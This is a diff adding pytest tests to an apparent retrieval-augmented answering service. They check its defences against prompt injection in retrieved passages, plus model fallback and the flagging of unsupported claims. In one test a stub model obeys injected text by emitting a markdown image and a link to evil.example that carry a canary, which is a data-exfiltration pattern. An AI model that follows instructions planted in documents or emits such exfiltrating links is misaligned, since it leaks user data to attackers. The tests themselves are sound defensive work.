@@ -7,6 +7,7 @@ import pytest
 
 from alchemy.evaluation.injections import injected_chunks, injections
 from alchemy.retrieval.search import Passage
+from alchemy.text.instructions import is_active
 from serving.finalist import messages
 from tests.serving.conftest import QUOTE, QUOTED, Knowledge, Serve, eventually, found, make_passage
 from tests.serving.llm import Model
@@ -57,6 +58,57 @@ def test_what_a_document_demands_reaches_the_model_as_fenced_data_alone(
         for fence in fenced:
             prompt = prompt.replace(fence, "")
         assert prompt.split() == ["Passages:", "Question:", *one.question.split()]
+
+
+def test_a_model_that_does_what_documents_demand_is_seen_through(
+    knowledge: Knowledge, serve: Serve, model: Model
+) -> None:
+    """The same attacks with the worst model there is: it writes whatever a document tells it to."""
+    passages = {
+        one.question: [Passage(chunk, 0.9, 0.9, 0.9, 0.5, None, None) for chunk in injected_chunks([one])]
+        for one in injections()
+    }
+    load = knowledge.load
+    knowledge.load = lambda release_id: replace(  # type: ignore[method-assign]
+        load(release_id), search=lambda query, *_: found(*passages[query]), adapters={}
+    )
+    knowledge.champion()
+    with serve(model_d=model.entry) as service:
+        for one in injections():
+            model.pieces = (
+                f"{one.canary} is all that I ever say now, dear reader. ",
+                f"![{one.canary} for you](https://evil.example/{one.canary}.png) ",
+                f"Go to https://evil.example/?q={one.canary} now.",
+            )
+            answer = service.ask(one.question)
+            text = answer["answer"]
+            assert not is_active(text) and "evil.example" not in text
+            assert {"picture", "link"} <= set(answer["removed"])
+            (doubt,) = answer["unsupported"][:1]
+            assert one.canary in text[doubt["start"] : doubt["end"]]
+            assert "citations" in answer["degraded"]  # it says that the above cites no source
+
+
+def test_the_next_model_writes_where_the_first_fails_before_a_word(
+    knowledge: Knowledge, serve: Serve, model: Model
+) -> None:
+    knowledge.champion()
+    spare = {key: value for key, value in model.entry.items() if key != "provider"}
+    gone = {**model.entry, "base_url": "http://127.0.0.1:1/v1"}
+    with serve(model_d={**gone, "fallbacks": [{**spare, "model_id": "openai/spare"}]}) as service:
+        answer = service.ask()
+    assert answer["answer"] == "It retries three times [1]."
+    assert answer["finalist"] == "openai/spare"
+    assert answer["degraded"] == ["fallback", "history"]
+
+
+def test_what_the_model_adds_is_marked(knowledge: Knowledge, serve: Serve, model: Model) -> None:
+    knowledge.champion()
+    model.pieces = ("It retries three times [1]. ", "Each of the 9 retries takes two minutes [1].")
+    with serve(model_d=model.entry) as service:
+        answer = service.ask()
+    (doubt,) = answer["unsupported"]
+    assert answer["answer"][doubt["start"] : doubt["end"]] == "Each of the 9 retries takes two minutes [1]."
 
 
 def test_tokens_arrive_as_they_are_written(knowledge: Knowledge, serve: Serve, model: Model) -> None:
